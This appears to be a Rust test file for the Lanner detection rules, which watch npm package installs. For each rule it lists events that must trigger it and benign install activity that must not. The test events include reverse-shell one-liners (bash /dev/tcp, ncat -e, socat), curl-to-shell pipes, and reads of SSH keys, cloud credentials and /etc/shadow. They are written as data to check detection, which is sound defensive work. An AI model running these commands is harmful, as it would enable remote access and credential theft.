//! Lanner's own rules, rule by rule: an event that must fire it and one that must not; then whole benign installations.
//!
//! Events are written as one line, `openat fd.name=/etc/shadow evt.is_open_read=true`; what a sensor would add to it
//! (names from paths, where a path is) is filled in as the sensor does.

use std::collections::BTreeSet;

use lanner_rules::{FieldName, LANNER_RULES, Priority, RuleSet, Source, Value};

use crate::support::{Table, lines, text, typed, written};

/// What the built-in sensor's events have. A rule that needs another field would be refused by the agent.
const SENSOR_FIELDS: &[&str] = &[
    "evt.type",
    "evt.num",
    "evt.time",
    "evt.res",
    "evt.rawres",
    "evt.is_open_read",
    "evt.is_open_write",
    "evt.is_open_exec",
    "evt.arg.flags",
    "proc.pid",
    "proc.ppid",
    "proc.name",
    "proc.exe",
    "proc.exepath",
    "proc.cmdline",
    "proc.args",
    "proc.cwd",
    "proc.pname",
    "proc.pcmdline",
    "proc.pexepath",
    "proc.aname",
    "proc.aexepath",
    "proc.acmdline",
    "proc.env",
    "proc.tty",
    "proc.vpid",
    "proc.is_exe_upper_layer",
    "proc.stdin.type",
    "proc.stdin.name",
    "fd.name",
    "fd.nameraw",
    "fd.directory",
    "fd.filename",
    "fd.num",
    "fd.type",
    "fd.typechar",
    "fd.l4proto",
    "fd.sip",
    "fd.sport",
    "fd.cip",
    "fd.cport",
    "fd.sip.name",
    "fd.rip",
    "fd.rport",
    "fs.path.name",
    "fs.path.source",
    "fs.path.target",
    "user.name",
    "user.uid",
    "container.id",
    "lanner.decoy",
    "lanner.leader",
    "lanner.phase",
    "lanner.package",
    "lanner.package_folder",
    "lanner.in_project",
    "lanner.in_home",
    "lanner.in_tmp",
    "lanner.in_package",
    "lanner.dropped",
    "lanner.memfd",
    "lanner.script",
    "lanner.proxy_allowed",
    "dns.name",
    "lanner.argv_utf8",
    "lanner.args_at_start",
];

const HOME: &str = "/home/u";
const PROJECT: &str = "/home/u/project";
const PACKAGE: &str = "/home/u/project/node_modules/evil";

fn rules() -> RuleSet {
    let known = |field: &FieldName| SENSOR_FIELDS.contains(&field.name.as_str());
    RuleSet::compile(&[Source { name: "lanner_rules.yaml", text: LANNER_RULES }], &known)
        .unwrap_or_else(|found| panic!("{}", lines(&found)))
}

/// An event as the built-in sensor raises it.
fn event<'l>(rules: &RuleSet, line: &'l str) -> Table<'l> {
    let (event_type, mut given) = written(line);
    let defaults = [
        ("proc.name", "node"),
        ("proc.exepath", "/usr/bin/node"),
        ("proc.cmdline", "node install.js"),
        ("proc.args", "install.js"),
        ("proc.pname", "sh"),
        ("evt.res", "SUCCESS"),
        ("lanner.package", "evil@1.0.0"),
        ("lanner.leader", "false"),
        ("lanner.script", "true"),
        ("lanner.decoy", "false"),
        ("lanner.argv_utf8", "true"),
        ("lanner.args_at_start", "true"),
        ("lanner.dropped", "false"),
        ("lanner.memfd", "false"),
        ("proc.stdin.type", "unix"),
    ];
    for (name, value) in defaults {
        given.entry(name.to_owned()).or_insert_with(|| value.to_owned());
    }
    let is_exec = event_type.starts_with("execve");
    let path = if is_exec { "proc.exepath" } else { "fd.name" };
    let path = ["fs.path.name", "fs.path.target", path].into_iter().find_map(|name| given.get(name).cloned());
    for (flag, folder) in
        [("in_home", HOME), ("in_project", PROJECT), ("in_package", PACKAGE), ("in_tmp", "/tmp")]
    {
        let inside = path.as_ref().is_some_and(|path| path.starts_with(&format!("{folder}/")));
        given.entry(format!("lanner.{flag}")).or_insert_with(|| inside.to_string());
    }
    if let Some(name) = given.get("fd.name").cloned() {
        let (directory, filename) = name.rsplit_once('/').unwrap_or(("", &name));
        let (directory, filename) = (directory.to_owned(), filename.to_owned());
        given.entry("fd.nameraw".to_owned()).or_insert(name);
        given.entry("fd.directory".to_owned()).or_insert(directory);
        given.entry("fd.filename".to_owned()).or_insert(filename);
    }
    let values = given.into_iter().map(|(name, value)| (name.clone(), typed(&name, &value))).collect();
    Table { event_type, names: rules.fields().iter().map(ToString::to_string).collect(), values }
}

fn fired<'r>(rules: &'r RuleSet, line: &str) -> Vec<(&'r str, Priority)> {
    let found = rules.evaluate(&event(rules, line));
    found.iter().map(|found| (found.rule.name.as_str(), found.rule.priority)).collect()
}

struct Row {
    rule: &'static str,
    fires: &'static [&'static str],
    silent: &'static [&'static str],
}

const fn row(rule: &'static str, fires: &'static [&'static str], silent: &'static [&'static str]) -> Row {
    Row { rule, fires, silent }
}

#[rustfmt::skip]
const TABLE: &[Row] = &[
    row("Read decoy credentials", &[
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true",
        "open fd.name=/home/u/project/innocent.txt evt.is_open_read=true lanner.decoy=true",
        "openat2 fd.name=/home/u/.ssh/id_rsa evt.is_open_read=true lanner.decoy=true lanner.leader=true",
        // Not npm by its full path, or npm with something in it, is not the owner.
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/tmp/usr/bin/npm run x",
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm run x proc.exepath=/home/u/node",
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm /../../../home/u/x.js run",
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm run x proc.env[NODE_OPTIONS]=--require x",
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm run x proc.env[LD_PRELOAD]=x.so",
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm run x proc.env[LD_AUDIT]=x.so",
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm run x proc.env[OPENSSL_CONF]=x",
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm run x lanner.args_at_start=false",
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm init -y --init-module=/x/m.js",
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm --silent ini -y",
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm crea -y",
        "openat fd.name=/home/u/.aws/credentials evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm run x",
    ], &[
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true lanner.leader=true",
        "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm run build",
        "openat fd.name=/home/u/project/.npmrc evt.is_open_read=true",
    ]),
    row("Read credentials", &[
        "openat fd.name=/home/u/.netrc evt.is_open_read=true evt.res=ENOENT",
        "openat fd.name=/home/u/.config/gh/hosts.yml evt.is_open_read=true",
        "openat fd.name=/home/u/.docker/config.json evt.is_open_read=true",
        "openat fd.name=/home/u/.kube/config evt.is_open_read=true lanner.leader=true",
        "openat fd.name=/home/u/.mozilla/firefox/x.default/logins.json evt.is_open_read=true",
        "openat fd.name=/root/.cargo/credentials.toml evt.is_open_read=true",
        "openat fd.name=/home/u/.bash_history evt.is_open_read=true",
    ], &[
        "openat fd.name=/home/u/.ssh/id_rsa evt.is_open_read=true lanner.decoy=true",
        "openat fd.name=/home/u/.gitconfig evt.is_open_read=true",
        "openat fd.name=/home/u/project/node_modules/evil/test/.ssh/id_rsa evt.is_open_read=true",
        "openat fd.name=/home/u/project/node_modules/evil/.npmrc evt.is_open_read=true",
        "openat fd.name=/home/u/.npm/_cacache/index-v5/aa/bb evt.is_open_read=true",
    ]),
    row("Link or move credentials", &[
        "linkat fs.path.source=/home/u/.ssh/id_rsa fs.path.target=/home/u/project/a.txt",
        "symlinkat fs.path.source=/home/u/.aws/credentials fs.path.target=/tmp/a",
        "rename fs.path.source=/home/u/x fs.path.target=/tmp/a lanner.decoy=true",
    ], &["linkat fs.path.source=/home/u/project/a fs.path.target=/home/u/project/b",
         "rename fs.path.source=/home/u/.npm/_cacache/tmp/1 fs.path.target=/home/u/.npm/_cacache/2 lanner.leader=true"]),
    row("Read system secrets", &[
        "openat fd.name=/etc/shadow evt.is_open_read=true evt.res=EACCES",
        "openat fd.name=/run/secrets/db_password evt.is_open_read=true",
        "openat fd.name=/etc/ssh/ssh_host_ed25519_key evt.is_open_read=true",
    ], &["openat fd.name=/etc/passwd evt.is_open_read=true",
         "openat fd.name=/run/secrets/kubernetes.io/serviceaccount/token evt.is_open_read=true"]),
    row("Read service account token", &[
        "openat fd.name=/var/run/secrets/kubernetes.io/serviceaccount/token evt.is_open_read=true evt.res=ENOENT",
        "openat fd.name=/run/secrets/eks.amazonaws.com/serviceaccount/token evt.is_open_read=true",
    ], &["openat fd.name=/run/systemd/seats/seat0 evt.is_open_read=true"]),
    row("Read environment or memory of another process", &[
        "openat fd.name=/proc/1/environ evt.is_open_read=true",
        "openat fd.name=/proc/7/environ fd.nameraw=/proc/self/../7/environ evt.is_open_read=true",
        "openat fd.name=/proc/7/task/7/environ evt.is_open_read=true",
        "openat fd.name=/proc/7/mem evt.is_open_write=true",
    ], &["openat fd.name=/proc/9/environ fd.nameraw=/proc/self/environ evt.is_open_read=true",
         "openat fd.name=/proc/9/maps fd.nameraw=/proc/self/maps evt.is_open_read=true",
         "openat fd.name=/proc/meminfo evt.is_open_read=true"]),
    row("Read project secrets", &["openat fd.name=/home/u/project/.env evt.is_open_read=true"],
        &["openat fd.name=/home/u/project/node_modules/evil/.env evt.is_open_read=true"]),
    row("Shell on a network socket", &[
        "execve proc.name=sh proc.exepath=/usr/bin/sh proc.stdin.type=ipv4 proc.stdin.name=127.0.0.1:1->127.0.0.1:2",
        "execve proc.name=python3 proc.stdin.type=ipv6",
    ], &["execve proc.name=sh proc.exepath=/usr/bin/sh proc.stdin.type=unix",
         "execve proc.name=cat proc.exepath=/usr/bin/cat proc.stdin.type=ipv4"]),
    row("Reverse shell command", &[
        "execve proc.name=bash proc.cmdline=bash -c bash -i >& /dev/tcp/127.0.0.1/4444 0>&1",
        "execve proc.name=python3 proc.cmdline=python3 -c import pty; pty.spawn(\"sh\")",
        "execve proc.name=ncat proc.cmdline=ncat -e /bin/sh 127.0.0.1 4444 proc.args=-e /bin/sh 127.0.0.1 4444",
        "execve proc.name=socat proc.args=TCP:127.0.0.1:1 EXEC:sh proc.cmdline=socat TCP:127.0.0.1:1 EXEC:sh",
    ], &["execve proc.name=bash proc.cmdline=bash -c echo > /dev/null",
         "execve proc.name=gcc proc.args=-c -e main a.c proc.cmdline=gcc -c -e main a.c"]),
    row("Download tool", &[
        "execve proc.name=curl proc.exepath=/usr/bin/curl proc.cmdline=curl http://x.invalid/",
        "execveat proc.name=wget proc.cmdline=wget x.invalid",
        "execve proc.name=git proc.args=clone https://x.invalid/y proc.cmdline=git clone https://x.invalid/y",
        "execve proc.name=openssl proc.args=s_client -connect x:1 proc.cmdline=openssl s_client -connect x:1",
    ], &["execve proc.name=git proc.args=config core.hooksPath .husky proc.cmdline=git config core.hooksPath .husky",
         "execve proc.name=git proc.args=clone /x proc.cmdline=git clone /x lanner.script=false",
         "execve proc.name=openssl proc.args=version proc.cmdline=openssl version"]),
    row("Pipe to shell", &[
        "execve proc.name=sh proc.cmdline=sh -c curl -s http://x.invalid/i.sh | sh",
        "execve proc.name=bash proc.cmdline=bash -c bash <(curl -s http://x.invalid/i.sh)",
        "execve proc.name=sh proc.cmdline=sh -c echo aGk= | base64 --decode | sh",
        "execve proc.name=sh proc.cmdline=sh -c sh -c \"$(curl http://x.invalid)\"",
    ], &["execve proc.name=sh proc.cmdline=sh -c node install.js || echo failed | cat"]),
    row("Publish or use registry credentials", &[
        "execve proc.name=npm proc.cmdline=npm publish --access public",
        "execve proc.name=node proc.cmdline=node /usr/bin/npm whoami",
        "execve proc.name=sh proc.cmdline=sh -c npm --registry http://127.0.0.1:1 publish",
    ], &["execve proc.name=node proc.cmdline=node /usr/bin/npm run publish-docs",
         "execve proc.name=sh proc.cmdline=sh -c node-gyp rebuild",
         "execve proc.name=npm proc.cmdline=npm publish lanner.leader=true"]),
    row("Another runtime", &["execve proc.name=bun proc.exepath=/home/u/project/node_modules/evil/bun"],
        &["execve proc.name=node"]),
    row("Miner", &[
        "execve proc.name=xmrig proc.cmdline=./xmrig",
        "execve proc.name=kworker proc.cmdline=./kworker -o stratum+tcp://pool.invalid:3333",
    ], &["execve proc.name=node proc.cmdline=node mine-data.js"]),
    row("Change of user", &["setuid proc.name=node evt.res=EPERM", "execve proc.name=sudo proc.cmdline=sudo id"],
        &["setuid proc.name=npm lanner.leader=true", "execve proc.name=sudo-prompt"]),
    row("Look at the machine", &["execve proc.name=whoami proc.cmdline=whoami"],
        &["execve proc.name=uname", "execve proc.name=id lanner.script=false"]),
    row("Argument that is not text", &["execve lanner.argv_utf8=false"], &["execve proc.name=node"]),
    row("Run a dropped file", &[
        "execve proc.name=x proc.exepath=/tmp/x lanner.dropped=true",
        "execve proc.name=x proc.exepath=/home/u/.bun/bin/bun lanner.dropped=true",
    ], &["execve proc.name=esbuild proc.exepath=/home/u/project/node_modules/evil/bin/esbuild lanner.dropped=true",
         "execve proc.name=conftest proc.exepath=/home/u/project/node_modules/other/build/conftest lanner.dropped=true",
         "execve proc.name=gcc proc.exepath=/usr/bin/gcc"]),
    row("Run a script from a temporary folder", &[
        "execve proc.name=sh proc.args=/tmp/run.sh proc.cmdline=sh /tmp/run.sh",
        "execve proc.name=node proc.args=/dev/shm/a/b.js proc.cmdline=node /dev/shm/a/b.js",
    ], &["execve proc.name=node proc.args=/tmp/abc/home/project/node_modules/x/install.js",
         "execve proc.name=as proc.args=/tmp/ccAbc.s", "execve proc.name=sh proc.args=-c ls /tmp/x"]),
    row("Run from memory", &["execveat proc.name=3 proc.exepath=/memfd:x lanner.memfd=true"],
        &["execve proc.name=sh proc.exepath=/usr/bin/sh"]),
    row("File in memory", &["memfd_create proc.name=node"], &["memfd_create proc.name=npm lanner.leader=true"]),
    row("Cloud metadata service", &[
        "connect fd.type=ipv4 fd.sip=169.254.169.254 fd.sport=80 fd.l4proto=tcp",
        "sendto fd.type=ipv6 fd.sip=fd00:ec2::254 fd.sport=80 fd.l4proto=udp",
    ], &["connect fd.type=ipv4 fd.sip=169.254.1.1 fd.sport=80"]),
    row("Direct connection", &[
        "connect fd.type=ipv4 fd.sip=203.0.113.9 fd.sport=443 fd.l4proto=tcp",
        "connect fd.type=ipv4 fd.sip=203.0.113.9 fd.sport=443 fd.l4proto=tcp lanner.leader=true",
        "sendmmsg fd.type=ipv6 fd.sip=2001:db8::1 fd.sport=53 fd.l4proto=udp",
    ], &["connect fd.type=ipv4 fd.sip=169.254.169.254 fd.sport=80",
         "connect fd.type=ipv4 fd.sip=127.0.0.1 fd.sport=8118 lanner.proxy_allowed=true",
         "connect fd.type=unix fd.name=/var/run/nscd/socket evt.res=ENOENT"]),
    row("Connection to this machine", &[
        "connect fd.type=ipv4 fd.sip=127.0.0.1 fd.sport=4444 fd.l4proto=tcp",
        "connect fd.type=ipv6 fd.sip=::ffff:127.0.0.1 fd.sport=4444 fd.l4proto=tcp",
    ], &["connect fd.type=ipv4 fd.sip=127.0.0.1 fd.sport=8118 lanner.proxy_allowed=true",
         "sendto fd.type=ipv4 fd.sip=127.0.0.1 fd.sport=53 fd.l4proto=udp"]),
    row("Refused host", &["proxy fd.sip.name=x.invalid fd.sport=443 lanner.proxy_allowed=false lanner.leader=true"],
        &["proxy fd.sip.name=registry fd.sport=443 lanner.proxy_allowed=true lanner.leader=true"]),
    row("Fetched from an allowed host", &["proxy fd.sip.name=registry fd.sport=443 lanner.proxy_allowed=true"],
        &["proxy fd.sip.name=registry fd.sport=443 lanner.proxy_allowed=true lanner.leader=true lanner.script=false"]),
    row("Name lookup", &["dns dns.name=6e6f6465.x.invalid"], &["dns dns.name=registry lanner.leader=true"]),
    row("Name lookup by the package manager", &["dns dns.name=registry lanner.leader=true"], &["dns dns.name=x.invalid"]),
    row("Raw socket", &["socket fd.type=ipv4 fd.l4proto=raw evt.res=EPERM"],
        &["socket fd.type=netlink", "socket fd.type=ipv4 fd.l4proto=tcp"]),
    row("Datagram socket", &["socket fd.type=ipv4 fd.l4proto=udp evt.res=EACCES"],
        &["socket fd.type=unix", "socket fd.type=ipv4 fd.l4proto=udp lanner.leader=true"]),
    row("Listening socket", &["listen fd.type=ipv4 fd.sip=0.0.0.0 fd.sport=1337", "listen"], &["listen fd.type=unix fd.name=/tmp/s"]),
    row("Agent or container socket", &[
        "connect fd.type=unix fd.name=/var/run/docker.sock evt.res=ENOENT",
        "connect fd.type=unix fd.name=/tmp/ssh-Xy/agent.12",
    ], &["connect fd.type=unix fd.name=/run/user/1000/bus"]),
    row("Write a start-up file", &[
        "openat fd.name=/home/u/.bashrc evt.is_open_write=true",
        "openat fd.name=/home/u/.config/systemd/user/x.service evt.is_open_write=true",
        "openat fd.name=/home/u/.ssh/authorized_keys evt.is_open_write=true",
        "openat fd.name=/var/spool/cron/crontabs/u evt.is_open_write=true evt.res=EACCES",
        "openat fd.name=/home/u/.npmrc evt.is_open_write=true",
    ], &["openat fd.name=/home/u/.npmrc evt.is_open_write=true lanner.leader=true",
         "openat fd.name=/home/u/project/.bashrc evt.is_open_write=true",
         "openat fd.name=/home/u/.bashrc evt.is_open_read=true"]),
    row("Put a start-up file in place", &[
        "renameat2 fs.path.source=/tmp/x fs.path.target=/home/u/.bashrc",
        "symlinkat fs.path.source=/tmp/x fs.path.target=/etc/cron.d/x evt.res=EROFS",
    ], &["rename fs.path.source=/home/u/project/a fs.path.target=/home/u/project/b"]),
    row("Schedule a task", &[
        "execve proc.name=crontab proc.args=- proc.cmdline=crontab -",
        "execve proc.name=systemctl proc.args=--user enable x proc.cmdline=systemctl --user enable x",
    ], &["execve proc.name=crontab proc.args=-l proc.cmdline=crontab -l",
         "execve proc.name=systemctl proc.args=--version proc.cmdline=systemctl --version"]),
    row("Write a foreign git hook", &["openat fd.name=/home/u/work/.git/hooks/pre-commit evt.is_open_write=true"],
        &["openat fd.name=/home/u/project/.git/hooks/pre-commit evt.is_open_write=true",
          "openat fd.name=/home/u/.npm/_cacache/tmp/git-cloneX/.git/hooks/pre-push evt.is_open_write=true proc.name=git lanner.script=false"]),
    row("Write a git hook of the project", &["openat fd.name=/home/u/project/.husky/_/pre-commit evt.is_open_write=true"],
        &["openat fd.name=/home/u/project/.git/hooks/pre-commit.sample evt.is_open_write=true",
          "openat fd.name=/home/u/project/node_modules/evil/.husky/x evt.is_open_write=true lanner.leader=true"]),
    row("Write automation into the project", &[
        "openat fd.name=/home/u/project/.github/workflows/ci.yml evt.is_open_write=true",
        "openat fd.name=/home/u/project/.vscode/tasks.json evt.is_open_write=true",
        "openat fd.name=/home/u/project/.gitlab-ci.yml evt.is_open_write=true",
    ], &["openat fd.name=/home/u/project/.github/workflows/ci.yml evt.is_open_write=true lanner.leader=true",
         "openat fd.name=/home/u/project/node_modules/evil/.github/workflows/ci.yml evt.is_open_write=true"]),
    row("Put automation in place", &["rename fs.path.source=/tmp/x fs.path.target=/home/u/project/.github/workflows/x.yml"],
        &["rename fs.path.source=/tmp/x fs.path.target=/home/u/project/node_modules/a/.vscode/x"]),
    row("Write to the home folder", &["openat fd.name=/home/u/Documents/a.odt evt.is_open_write=true"],
        &["openat fd.name=/home/u/.cache/node-gyp/20.0.0/include/node.h evt.is_open_write=true",
          "openat fd.name=/home/u/project/out.js evt.is_open_write=true",
          "openat fd.name=/home/u/.npm/_logs/x.log evt.is_open_write=true lanner.leader=true"]),
    row("Put something into the home folder", &["rename fs.path.source=/home/u/project/node_modules/evil/c fs.path.target=/home/u/.config fd.name=/home/u/.config",
          "symlink fs.path.source=/tmp/x fs.path.target=/home/u/Desktop fd.name=/home/u/Desktop"],
        &["rename fs.path.source=/home/u/.npm/_cacache/tmp/x fs.path.target=/home/u/.npm/x fs.path.name=/home/u/.npm/x fd.name=/home/u/.npm/x",
          "rename fs.path.source=/tmp/x fs.path.target=/home/u/project/x fd.name=/home/u/project/x",
          "rename fs.path.source=/x fs.path.target=/home/u/.config fd.name=/home/u/.config lanner.leader=true"]),
    row("Delete from the home folder", &["unlinkat fs.path.name=/home/u/Documents/a.odt"],
        &["unlink fs.path.name=/home/u/project/node_modules/evil/tmp.o", "unlink fs.path.name=/home/u/.npm/_cacache/tmp/x",
          "unlink fs.path.name=/tmp/x"]),
    row("Write outside", &["openat fd.name=/usr/local/bin/x evt.is_open_write=true evt.res=EROFS"],
        &["openat fd.name=/dev/null evt.is_open_write=true",
          "openat fd.name=/usr/lib/python3/__pycache__/a.pyc evt.is_open_write=true evt.res=EROFS",
          "openat fd.name=/tmp/ccAbc.s evt.is_open_write=true"]),
    row("Attack on the watcher", &["watcher_attacked fd.name=/proc/2/mem"], &["openat fd.name=/proc/version evt.is_open_read=true"]),
    row("Unreadable to the watcher", &["unreadable proc.name=x", "prctl proc.name=x"], &["execve proc.name=x"]),
    row("Trace or write another process", &["ptrace proc.name=gdb evt.res=EPERM", "process_vm_writev proc.name=x"],
        &["execve proc.name=gdb"]),
];

#[test]
fn every_rule_has_a_row_and_every_row_a_rule() {
    let rules = rules();
    let defined: BTreeSet<_> = rules.rules().map(|rule| rule.name.as_str()).collect();
    let tested: BTreeSet<_> = TABLE.iter().map(|row| row.rule).collect();
    assert_eq!(defined, tested);
    for row in TABLE {
        assert!(
            !row.fires.is_empty() && !row.silent.is_empty(),
            "{} needs an event that fires and one that does not",
            row.rule
        );
    }
}

#[test]
fn every_rule_fires_when_it_must_and_only_then() {
    let rules = rules();
    let mut wrong = String::new();
    for row in TABLE {
        for line in row.fires {
            let fired = fired(&rules, line);
            if fired.iter().all(|(name, _)| *name != row.rule) {
                wrong += &format!("{} must fire, but {fired:?} did: {line}\n", row.rule);
            }
        }
        for line in row.silent {
            if fired(&rules, line).iter().any(|(name, _)| *name == row.rule) {
                wrong += &format!("{} must not fire: {line}\n", row.rule);
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

/// What benign installations do, seen with strace: npm itself, native builds, hooks, helpers.
#[rustfmt::skip]
const BENIGN: &[&str] = &[
    "openat fd.name=/etc/passwd evt.is_open_read=true lanner.leader=true lanner.script=false",
    "openat fd.name=/etc/resolv.conf evt.is_open_read=true lanner.leader=true",
    "openat fd.name=/etc/ssl/certs/ca-certificates.crt evt.is_open_read=true lanner.leader=true",
    "openat fd.name=/etc/ssl/openssl.cnf evt.is_open_read=true",
    "openat fd.name=/proc/17/maps fd.nameraw=/proc/self/maps evt.is_open_read=true",
    "openat fd.name=/proc/17/fd fd.nameraw=/proc/self/fd evt.is_open_read=true",
    "openat fd.name=/proc/17/cgroup fd.nameraw=/proc/self/cgroup evt.is_open_read=true",
    "openat fd.name=/proc/cpuinfo evt.is_open_read=true",
    "openat fd.name=/proc/meminfo evt.is_open_read=true",
    "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true lanner.leader=true lanner.script=false",
    "openat fd.name=/home/u/.npmrc evt.is_open_read=true lanner.decoy=true proc.args=/usr/bin/npm run build",
    "openat fd.name=/home/u/project/.npmrc evt.is_open_read=true lanner.leader=true lanner.script=false",
    "openat fd.name=/home/u/project/node_modules/evil/.npmrc evt.is_open_read=true",
    "openat fd.name=/home/u/.gitconfig evt.is_open_read=true evt.res=ENOENT lanner.leader=true",
    "openat fd.name=/home/u/.gitconfig evt.is_open_read=true evt.res=ENOENT proc.name=git",
    "openat fd.name=/home/u/.npm/_cacache/tmp/1 evt.is_open_write=true lanner.leader=true lanner.script=false",
    "openat fd.name=/home/u/.npm/_cacache/index-v5/a evt.is_open_read=true lanner.leader=true lanner.script=false",
    "openat fd.name=/home/u/.npm/_logs/x.log evt.is_open_write=true lanner.leader=true",
    "rename fs.path.source=/home/u/.npm/_cacache/tmp/1 fs.path.target=/home/u/.npm/_cacache/content-v2/2 lanner.leader=true",
    "unlink fs.path.name=/home/u/.npm/_logs/old.log lanner.leader=true lanner.script=false",
    "openat fd.name=/home/u/project/node_modules/evil/.github/workflows/ci.yml evt.is_open_write=true lanner.leader=true",
    "openat fd.name=/home/u/project/node_modules/evil/.vscode/settings.json evt.is_open_write=true lanner.leader=true",
    "openat fd.name=/home/u/project/package-lock.json evt.is_open_write=true lanner.leader=true lanner.script=false",
    "openat fd.name=/home/u/project/node_modules/evil/test/id_rsa evt.is_open_read=true",
    "connect fd.type=ipv4 fd.sip=127.0.0.1 fd.sport=8118 lanner.proxy_allowed=true lanner.leader=true",
    "proxy fd.sip.name=registry fd.sport=443 lanner.proxy_allowed=true lanner.leader=true lanner.script=false",
    "proxy fd.sip.name=registry fd.sport=443 lanner.proxy_allowed=true",
    "connect fd.type=unix fd.name=/var/run/nscd/socket evt.res=ENOENT",
    "socket fd.type=unix", "socket fd.type=netlink", "socket fd.type=ipv4 fd.l4proto=tcp", "bind fd.type=netlink",
    "execve proc.name=sh proc.exepath=/usr/bin/sh proc.cmdline=sh -c node-gyp rebuild proc.args=-c node-gyp rebuild",
    "execve proc.name=node proc.args=/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js rebuild",
    "execve proc.name=python3 proc.exepath=/usr/bin/python3 proc.args=-c import sys; print(sys.version)",
    "execve proc.name=make proc.exepath=/usr/bin/make proc.args=BUILDTYPE=Release -C build",
    "execve proc.name=gcc proc.exepath=/usr/bin/gcc proc.args=-o Release/obj.target/addon.o -c addon.c",
    "execve proc.name=as proc.exepath=/usr/bin/as proc.args=-o addon.o /tmp/ccAbc.s",
    "execve proc.name=g++ proc.exepath=/usr/bin/g++", "execve proc.name=ar", "execve proc.name=uname",
    "openat fd.name=/tmp/ccAbc.s evt.is_open_write=true proc.name=gcc",
    "unlink fs.path.name=/tmp/ccAbc.s proc.name=gcc",
    "openat fd.name=/home/u/project/node_modules/evil/build/Release/addon.node evt.is_open_write=true proc.name=ld",
    "openat fd.name=/home/u/.cache/node-gyp/20.0.0/include/node/node.h evt.is_open_read=true",
    "openat fd.name=/usr/lib/python3/dist-packages/__pycache__/x.pyc evt.is_open_write=true evt.res=EROFS proc.name=python3",
    "openat fd.name=/dev/null evt.is_open_write=true", "openat fd.name=/dev/tty evt.is_open_write=true",
    "execve proc.name=conftest proc.exepath=/home/u/project/node_modules/evil/build/conftest lanner.dropped=true",
    "execve proc.name=esbuild proc.exepath=/home/u/project/node_modules/evil/bin/esbuild lanner.dropped=true",
    "linkat fs.path.source=/home/u/project/node_modules/@e/linux/bin/e fs.path.target=/home/u/project/node_modules/evil/bin/e",
    "execve proc.name=git proc.exepath=/usr/bin/git proc.args=config core.hooksPath .husky/_ proc.cmdline=git config core.hooksPath .husky/_",
    "openat fd.name=/home/u/project/.git/config.lock evt.is_open_write=true proc.name=git",
    "rename fs.path.source=/home/u/project/.git/config.lock fs.path.target=/home/u/project/.git/config proc.name=git",
    "openat fd.name=/home/u/project/.husky/_/pre-commit evt.is_open_write=true",
    "openat fd.name=/home/u/project/.git/hooks/pre-commit evt.is_open_write=true",
    "openat fd.name=/home/u/.config/configstore/update-notifier-evil.json evt.is_open_write=true",
    "memfd_create proc.name=node", "chmod fs.path.name=/home/u/project/node_modules/evil/bin/e",
];

#[test]
fn benign_installations_stay_below_notice() {
    let rules = rules();
    let mut wrong = String::new();
    for line in BENIGN {
        for (name, priority) in fired(&rules, line) {
            if priority <= Priority::Notice {
                wrong += &format!("{name} ({priority:?}): {line}\n");
            }
        }
    }
    assert!(wrong.is_empty(), "{wrong}");
}

#[test]
fn a_sensor_that_does_not_know_the_leader_misses_nothing() {
    let rules = rules();
    let names = rules.fields().iter().map(ToString::to_string).collect();
    let values = [
        ("fd.name", text("/home/u/.npmrc")),
        ("fd.filename", text(".npmrc")),
        ("evt.is_open_read", Value::Flag(true)),
        ("lanner.decoy", Value::Flag(true)),
    ];
    let values = values.into_iter().map(|(name, value)| (name.to_owned(), value)).collect();
    let found = rules.evaluate(&Table { event_type: "openat", names, values });
    assert_eq!(found[0].rule.name, "Read decoy credentials");
}

#[test]
fn rules_are_tagged_described_and_said_in_one_line() {
    let rules = rules();
    for rule in rules.rules() {
        let techniques =
            rule.tags.iter().filter(|tag| tag.starts_with('T') && tag[1..].starts_with(char::is_numeric));
        assert!(techniques.count() > 0, "{} names no technique", rule.name);
        assert!(rule.tags.iter().any(|tag| tag.starts_with("mitre_")), "{} names no tactic", rule.name);
        assert!(rule.description.len() > 30, "{} has no description", rule.name);
    }
    let line = "openat fd.name=/home/u/.ssh/id_rsa evt.is_open_read=true lanner.decoy=true";
    let found = rules.evaluate(&event(&rules, line));
    assert_eq!(
        String::from_utf8_lossy(&found[0].output),
        "node read the decoy /home/u/.ssh/id_rsa | command=node install.js parent=sh package=evil@1.0.0 result=SUCCESS"
    );
}

#[test]
fn what_no_rule_is_about_is_not_watched() {
    let rules = rules();
    for watched in [
        "openat",
        "execve",
        "connect",
        "dns",
        "proxy",
        "unreadable",
        "watcher_attacked",
        "listen",
        "unlinkat",
    ] {
        assert!(rules.watches(watched), "{watched}");
    }
    for ignored in ["getpid", "chmod", "bind", "read"] {
        assert!(!rules.watches(ignored), "{ignored}");
    }
}
